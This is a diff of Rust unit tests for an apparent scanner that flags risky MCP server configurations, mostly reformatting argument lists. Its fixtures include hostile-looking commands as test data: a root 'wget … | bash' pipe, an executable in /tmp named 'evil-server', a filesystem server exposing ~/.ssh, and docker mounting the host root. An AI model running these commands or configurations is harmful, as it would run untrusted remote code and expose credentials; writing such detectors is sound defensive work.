@@ -133,7 +133,11 @@ mod tests {
         let server = stdio(
             "fs",
             "npx",
-            &["-y", "@modelcontextprotocol/server-filesystem@2025.8.21", "/"],
+            &[
+                "-y",
+                "@modelcontextprotocol/server-filesystem@2025.8.21",
+                "/",
+            ],
         );
         let a = assess(&server);
         assert!(rule_ids(&a).contains(&"MCP-CAP-002"), "{a:?}");
@@ -213,7 +217,11 @@ mod tests {
             ("uvx", vec!["mcp-server-fetch==1.0"], false),
             ("pipx", vec!["run", "mcp-server-git"], true),
             ("docker", vec!["run", "-i", "--rm", "mcp/fetch"], true),
-            ("docker", vec!["run", "-i", "--rm", "mcp/fetch:latest"], true),
+            (
+                "docker",
+                vec!["run", "-i", "--rm", "mcp/fetch:latest"],
+                true,
+            ),
             ("docker", vec!["run", "-i", "--rm", "mcp/fetch:1.0"], false),
             (
                 "docker",
@@ -241,7 +249,11 @@ mod tests {
 
     #[test]
     fn secrets_and_auto_approval_add_findings() {
-        let mut server = stdio("gh", "npx", &["-y", "@modelcontextprotocol/server-github@1.0.0"]);
+        let mut server = stdio(
+            "gh",
+            "npx",
+            &["-y", "@modelcontextprotocol/server-github@1.0.0"],
+        );
         server.secrets_found = vec![SecretFinding {
             location: "args[2]".into(),
             kind: "github_token".into(),
@@ -270,10 +282,18 @@ mod tests {
     #[test]
     fn every_finding_names_a_rule_in_the_table() {
         let servers = [
-            stdio("fs", "npx", &["-y", "@modelcontextprotocol/server-filesystem", "~/.ssh"]),
+            stdio(
+                "fs",
+                "npx",
+                &["-y", "@modelcontextprotocol/server-filesystem", "~/.ssh"],
+            ),
             stdio("sh", "sudo", &["bash", "-c", "wget -qO- http://x | bash"]),
             stdio("dl", "/tmp/evil-server", &[]),
-            stdio("d", "docker", &["run", "--network", "host", "-v", "/:/host", "img"]),
+            stdio(
+                "d",
+                "docker",
+                &["run", "--network", "host", "-v", "/:/host", "img"],
+            ),
         ];
         for server in servers {
             for finding in assess(&server).findings {
